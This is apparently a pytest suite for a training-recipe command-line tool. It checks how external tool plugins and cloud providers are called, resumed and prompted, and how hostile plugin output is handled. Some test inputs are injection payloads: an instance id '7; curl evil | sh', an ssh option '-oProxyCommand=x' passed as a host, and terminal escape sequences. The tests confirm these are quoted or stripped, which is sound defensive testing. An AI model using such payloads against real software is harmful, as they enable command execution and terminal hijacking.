"""Tools of other authors: with `serve` or one process for each verb, with or without a schema; and the provider of
the docs.
"""

import re
import sys
import time
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from conftest import Place

DOCS = Path(__file__).resolve().parents[3] / "docs" / "providers.md"

SERVED = """#!{python}
from typing import Annotated, Any
from trainsh_base.errors import Conflict
from trainsh_base.request import current
from trainsh_base.tool.declare import Arg, Opt, Tool
from trainsh_base.tool.program import run
import os
tool = Tool("served", "A stranger that serves")

@tool.command(ensures=True)
def ready(name: Annotated[str, Arg("what")], count: Annotated[int, Opt("how many")] = 1,
          deep: Annotated[bool, Opt("deep")] = False, _job: Annotated[str, Opt("job")] = "") -> dict[str, Any]:
    "Make it ready."
    open("ran", "a").write(f"ready {{name}} {{count}} {{deep}} {{bool(_job)}}\\n")
    return {{"vars": {{"COUNT": str(count + 1)}}, "message": "it is ready"}}

@tool.command()
def ask() -> str:
    "Ask something."
    return current().ask("confirm", "Really?", default="no", flag="--yes")

@tool.command()
def once(_resuming: Annotated[bool, Opt("again")] = False) -> dict[str, Any]:
    "Do it once."
    open("ran", "a").write(f"once {{_resuming}}\\n")
    if not _resuming:
        os.kill(os.getppid(), 9)
        import time
        time.sleep(60)
    return {{}}

@tool.command()
def refuse() -> None:
    "Refuse."
    raise Conflict("no room left", "try tomorrow")

run(tool)
"""
HOST = "host h = local\n"
OPEN = "tmux.open @h as w\n"


@pytest.fixture
def served(place: "Place") -> "Place":
    """A place that has train-served."""
    import sys

    place.tool("served", SERVED.format(python=sys.executable))
    return place


def test_words_and_options_become_typed_parameters(served: "Place") -> None:
    text = HOST + "served.ready thing count=4 deep=true\n" + OPEN + "@w > echo $COUNT >> ran\n"
    done = served.run("run", served.recipe(text))
    assert done.returncode == 0, done.stdout + done.stderr
    assert served.lines() == ["ready thing 4 True True", "5"]
    assert "it is ready" in done.stdout


def test_a_wrong_verb_or_option_is_found_before_anything_runs(served: "Place") -> None:
    assert served.run("run", served.recipe("served.redy x\n")).returncode == 2
    assert served.run("run", served.recipe("served.ready x count=many\n")).returncode == 2
    assert not (served.config / "jobs").exists()


def test_what_ensures_a_state_is_done_again_and_the_rest_is_not(served: "Place") -> None:
    text = HOST + "served.ready a\nserved.once\n" + OPEN + "@w > [ -e go ]\n"
    served.tool(
        "served", SERVED.format(python=__import__("sys").executable).replace("if not _resuming", "if False")
    )
    assert served.run("run", served.recipe(text)).returncode == 1
    (served.work / "go").touch()
    assert served.run("resume").returncode == 0
    assert served.lines() == ["ready a 1 False True", "once False", "ready a 1 False True"]


def test_a_verb_that_was_cut_off_is_told_that_it_resumes(served: "Place") -> None:
    runner = served.start("run", served.recipe("served.once\n"))
    runner.communicate(timeout=60)
    assert runner.returncode == -9
    assert served.run("resume").returncode == 0
    assert served.lines() == ["once False", "once True"]


def test_an_error_of_a_tool_is_shown_with_its_hint(served: "Place") -> None:
    done = served.run("run", served.recipe("served.refuse\n"))
    assert done.returncode == 1
    assert "no room left" in done.stderr and "try tomorrow" in done.stderr


def test_a_question_without_a_terminal_names_its_flag(served: "Place") -> None:
    done = served.run("run", served.recipe("served.ask\n"))
    assert done.returncode == 1 and "--yes" in done.stderr


def test_a_tool_without_serve_and_schema_is_run_for_each_verb(place: "Place") -> None:
    place.tool("plain", '#!/bin/sh\n[ "$1" = go ] || exit 2\ncat >>input\necho \'{"vars": {"X": "from plain"}}\'\n')
    text = HOST + "plain.go one two=2\n" + OPEN + "@w > echo $X >> ran\n"
    assert place.run("run", place.recipe(text)).returncode == 0
    assert place.lines() == ["from plain"]
    assert '"args":["one"]' in place.lines("input")[0] and '"two":"2"' in place.lines("input")[0]


def test_a_tool_that_fails_says_its_last_line(place: "Place") -> None:
    place.tool("plain", '#!/bin/sh\n[ "$1" = go ] || exit 2\necho noise >&2; echo "out of luck" >&2; exit 1\n')
    done = place.run("run", place.recipe("plain.go\n"))
    assert done.returncode == 1 and "out of luck" in done.stderr


def test_a_host_given_on_the_command_line_leaves_the_provider_out(place: "Place") -> None:
    place.tool("plain", "#!/bin/sh\nexit 2\n")
    text = "host gpu = placeholder\nplain.pick @gpu\nplain.stop\ntmux.open @gpu as w\n@w > echo on >> ran\n"
    done = place.run("run", place.recipe(text), "--host", "gpu=local")
    assert done.returncode == 0, done.stdout + done.stderr
    assert "plain.pick is skipped, because of --host gpu=local" in done.stdout
    assert place.lines() == ["on"]


def test_the_provider_of_the_docs_works_as_it_stands(place: "Place") -> None:
    blocks = re.findall(r"```(\w+)\n(.*?)```", DOCS.read_text(), re.DOTALL)
    provider = next(text for kind, text in blocks if kind == "sh" and text.startswith("#!"))
    recipe = next(text for kind, text in blocks if kind == "recipe")
    place.tool("acme", provider)
    place.extra = {"ACME_CLOUD": str(place.work / "cloud"), "ACME_SECONDS": "0"}
    (place.work / "train.sh").write_text("echo trained > model\n")
    path = place.recipe(recipe)
    checked = place.run("run", path, "--dry-run")
    assert checked.returncode == 0, checked.stderr
    done = place.run("run", path)
    assert done.returncode == 0, done.stdout + done.stderr
    assert (place.work / "model").read_text() == "trained\n"
    machines = list((place.work / "cloud").glob("*.json"))
    assert len(machines) == 1 and '"state":"stopped"' in machines[0].read_text()
    wrong = place.recipe(recipe.replace("size=small", "size=big"))
    assert place.run("run", wrong).returncode == 2


def test_a_question_is_asked_on_the_terminal_and_stops_the_clock(served: "Place") -> None:
    from trainsh_base.testing import Terminal

    path = served.recipe("served.ask timeout=4s\n")
    script = f'cd "{served.work}" && exec train-recipe run {path}'
    terminal = Terminal(["sh", "-c", script], served.env)
    terminal.expect("Really?")
    time.sleep(4.5)  # longer than the step's timeout, but the time for an answer does not count
    terminal.type("y\n")
    assert terminal.wait() == 0, terminal.text
    assert served.run("logs", "--last", "--step", "1").stdout == "yes\n"  # what it answered


def test_a_host_is_picked_from_a_provider(place: "Place") -> None:
    path = place.recipe("host gpu = placeholder\n" + OPEN.replace("@h", "@gpu"))
    done = place.run("run", path, "--pick-host", "gpu=shop")
    assert done.returncode == 9 and "train-shop" in done.stderr
    place.tool("shop", '#!/bin/sh\n[ "$1" = serve ] || exit 2\nexec python3 "${0%/*}/shop.py"\n')
    (place.bin / "shop.py").write_text(PICKER)
    assert place.run("run", path, "--pick-host", "gpu=shop").returncode == 0


def test_a_provider_may_ask_before_the_run(place: "Place") -> None:
    from trainsh_base.testing import Terminal

    question = {"jsonrpc": "2.0", "id": "q", "method": "ask", "params": {"kind": "text", "message": "Which one?"}}
    place.tool("shop", '#!/bin/sh\n[ "$1" = serve ] || exit 2\nexec python3 "${0%/*}/shop.py"\n')
    asking = PICKER.replace(
        "    answer =", f"    print(json.dumps({question!r}), flush=True); input()\n    answer ="
    )
    (place.bin / "shop.py").write_text(asking.replace("for line in sys.stdin:", "for line in iter(input, ''):"))
    path = place.recipe("host gpu = placeholder\n" + OPEN.replace("@h", "@gpu"))
    script = f'cd "{place.work}" && exec train-recipe run {path} --pick-host gpu=shop'
    terminal = Terminal(["sh", "-c", script], place.env)
    terminal.expect("Which one?")
    terminal.type("this\n")
    assert terminal.wait() == 0, terminal.text


def test_what_still_costs_money_at_the_end_is_said_last(place: "Place") -> None:
    place.tool("shed", '#!/bin/sh\ncase $1 in pick) echo \'{"hosts": {"gpu": "local"}, "instance": '
               '{"id": 7, "price_per_hour": 0.25}}\' ;; stop) echo {} ;; *) exit 2 ;; esac\n')  # fmt: skip
    text = "host gpu = placeholder\nshed.pick @gpu\ntmux.open @gpu as w\n@w > [ -e go ]\nshed.stop\n"
    done = place.run("run", place.recipe(text))
    assert done.returncode == 1
    assert done.stderr.splitlines()[-1] == "shed 7 is still running at $0.25 an hour: train shed stop 7"
    (place.work / "go").touch()
    done = place.run("resume")
    assert done.returncode == 0 and "still running" not in done.stderr


PICKER = """import json, sys
for line in sys.stdin:
    message = json.loads(line)
    answer = {"hosts": {message["params"]["host"]: "local"}}
    print(json.dumps({"jsonrpc": "2.0", "id": message["id"], "result": answer}), flush=True)
"""


HOSTILE = """#!/bin/sh
# summary: answers with what is none of the protocol's
[ "$1" = schema ] && {{ printf '{{"commands": {{"go": {{"params": {{"properties": {{}}}}}}}}}}'; exit; }}
[ "$1" = serve ] && exit 2
cat >/dev/null
{answer}
"""
ANSWERS = {
    "a list": "printf '[[[]]]'", "no JSON": "printf 'hello'", "a deep one": "python3 -c \"print('[' * 100000)\"",
    "bytes": "printf '\\377\\376'", "an error that is text": "printf '{\"error\": \"x\"}' >&2; exit 3",
    "hosts that are none": "printf '{\"hosts\": {\"h\": \"-oProxyCommand=x\"}}'", "a number": "printf 5",
    "killed": "kill -9 $$",
}  # fmt: skip


@pytest.mark.parametrize("answer", ANSWERS)
def test_whatever_a_tool_answers_finally_comes(place: "Place", answer: str) -> None:
    place.tool("hostile", HOSTILE.format(answer=ANSWERS[answer]))
    text = HOST + "hostile.go\n" + OPEN + "finally\ntmux.open @h as v\n@v > echo finally >> ran\n"
    done = place.run("run", place.recipe(text))
    if answer == "killed":
        assert done.returncode == 1 and "interrupted" in done.stderr  # whether it took effect is not known
        done = place.run("cancel", place.job().name)
    assert "internal error" not in done.stderr, done.stderr
    assert place.lines() == ["finally"], done.stdout + done.stderr


def test_what_a_tool_says_reaches_no_terminal_as_it_is(place: "Place") -> None:
    evil = 'printf \'{"error": {"message": "\\\\u001b]52;c;eA==\\\\u0007 \\\\u009b2J \\\\u202eevil", "exit": 1}}\' >&2; exit 1'
    place.tool("hostile", HOSTILE.format(answer=evil))
    done = place.run("run", place.recipe(HOST + "hostile.go\n"))
    seen = [done.stdout + done.stderr, place.run("jobs").stdout, place.run("resume", "--check").stdout]
    assert done.returncode == 1 and all("evil" in text for text in seen)
    assert not [
        char for text in seen for char in text if (ord(char) < 32 and char not in "\n\t") or char in "\x9b\u202e"
    ]


def test_an_unexpected_error_inside_a_step_ends_it_and_finally_comes(place: "Place") -> None:
    steps = f'"{place.config}"/jobs/*/steps'
    text = HOST + OPEN + f"@w > rm -rf {steps} && touch {steps.replace('*/steps', '*')}/steps\n"
    text = text.replace("touch", "for d in").replace("/steps\n", '; do : > "$d/steps"; done\n')
    text += "@w > echo printed\nfinally\n@w > touch finally\n"
    done = place.run("run", place.recipe(text))
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert (place.work / "finally").exists(), done.stdout + done.stderr


def test_an_id_that_a_provider_gives_is_a_word_of_the_command_that_stops_it(place: "Place") -> None:
    place.tool("shed", '#!/bin/sh\n[ $1 = pick ] || exit 2\necho \'{"instance": {"id": "7; curl evil | sh"}}\'\n')
    done = place.run("run", place.recipe("shed.pick\n"))
    assert done.stderr.splitlines()[-1].endswith("is still running: train shed stop '7; curl evil | sh'")


WRITING = DOCS.parent / "writing-a-tool.md"


def test_the_tools_of_the_documentation_are_called_from_a_recipe(place: "Place") -> None:
    shell, python = re.findall(r"^```(?:sh|python)\n(.*?)^```", WRITING.read_text(), re.DOTALL | re.MULTILINE)[:2]
    place.tool("hours", shell)
    place.tool("shelf", f"#!{sys.executable}\n{python}\nmain()\n")
    done = place.run("run", place.recipe("hours.get unit=days\nshelf.find tape least=5\n"))
    assert done.returncode == 0, done.stdout + done.stderr
    assert "up for" in done.stdout + done.stderr and "looking for tape" in done.stdout + done.stderr
    wrong = place.run("run", place.recipe("shelf.find glue\n"))
    assert wrong.returncode == 1 and "there is no glue on the shelf" in wrong.stderr
    assert "line 1" not in wrong.stderr and "train-shelf find tape" in wrong.stderr
